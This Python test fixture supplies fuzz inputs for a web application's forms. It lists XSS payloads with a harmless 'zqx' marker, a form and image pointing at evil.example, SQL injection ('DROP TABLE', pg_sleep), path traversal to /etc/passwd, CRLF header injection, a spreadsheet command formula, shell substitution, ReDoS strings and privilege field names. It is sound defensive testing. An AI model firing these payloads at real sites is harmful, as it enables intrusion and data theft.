"""What unkind or unlucky people type. `zqx` marks what must never become part of a page's machinery."""

import os
from itertools import cycle, repeat

XSS = [
    "<b id=zqx>bold</b>",
    "<script>zqx=1</script>",
    '"><img src=x onerror=zqx()>',
    "'><svg onload=zqx()>",
    "</textarea><zqx>",
    "</title><zqx>",
    "--><zqx>",
    "javascript:zqx()",
    '<a href="javascript:zqx()">go</a>',
    "<iframe srcdoc='<script>zqx()</script>'></iframe>",
    "<div hx-get=/zqx hx-trigger=load></div>",
    "<form action=//evil.example/zqx><input name=zqx></form>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=zqx()>",
    "&lt;img src=x onerror=zqx()&gt;",
    "\\u003cimg src=x onerror=zqx()\\u003e",
]
MARKDOWN = [
    "[go](javascript:zqx())",
    "![x](https://evil.example/zqx.png)",
    "# Heading\n* one\n* two",
    "{{ 7*191 }}{% zqx %}",
]
TEXT = [
    "Robert'); DROP TABLE issues_issue;--",
    "1' OR pg_sleep(3)--",
    "${7*191} #{7*191} <%= 7*191 %>",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "a\r\nSet-Cookie: zqx=1\r\n\r\n<b id=zqx>",
    "%0d%0aSet-Cookie:%20zqx=1",
    "=cmd|'/c calc'!A1",
    "%s %n %(zqx)s {0.__class__} $(id) `id`",
]
FIDELITY = [
    "Llanfair­pwllgwyngyll: ŵ ŷ â ê î ô û Ŵ Ŷ",
    "👩🏽‍🚒 held on 🏴󠁧󠁢󠁷󠁬󠁳󠁿 and said “5 < 6 & 7 > 2”",
    "שלום, مرحبا \u202eabc\u202c and back",
    "  two  spaces\tand a tab  ",
    "line one\nline two\n\nline four",
    "e\u0301 and \u00e9 and \ufb01",
]
# PostgreSQL takes none: wherever one is let through, there is a fault, so each box is to meet one.
NUL = ["nul \x00 inside", "\x00"]
BYTES = ["bell \x07 and escape \x1b", "\ufffe\uffff", "x" * 20_000, "👍" * 5_000]
TYPED = [
    "-1",
    "99999999999999999999",
    "NaN",
    "1e999",
    "0x10",
    "2026-02-30",
    "9999-99-99",
    "true",
    "null",
    "[]",
    "[object Object]",
]
REDOS = [
    "a" * 6_000 + "!",
    "((((((((((" * 400,
    "@" * 4_000 + ".",
    "1" * 5_000,
    " " * 6_000 + "x",
    "a@" + "a." * 3_000 + "!",
]

MIXED = [*MARKDOWN, *TEXT, *FIDELITY, *BYTES, *REDOS, *TYPED]

# Each round is endless: box after box and form after form go on where the last one stopped. `FUZZ=whole`
# tries every text in every box instead.
ROUNDS = [cycle(words) for words in (XSS, MIXED, NUL)]
ODD = [cycle([*TYPED, *TEXT])]
if os.environ.get("FUZZ") == "whole":
    ROUNDS = [repeat(text) for text in (*XSS, *NUL, *MIXED)]
    ODD = [repeat(text) for text in (*TYPED, *TEXT)]
EXTRA_NAMES = [
    "is_active", "is_staff", "is_superuser", "role", "roles", "place", "place_id", "team", "team_id", "user", "user_id",
    "by", "by_id", "raised_by", "raised_by_id", "written_by", "author", "author_id", "worker", "worker_id", "owner",
    "held_by", "held_by_id", "status", "state", "id", "pk", "number", "reach", "sessions_epoch", "accepted_at",
    "token_hash", "email", "is_demo", "written_up_by", "administers", "cycle_id", "case_id",
]  # fmt: skip
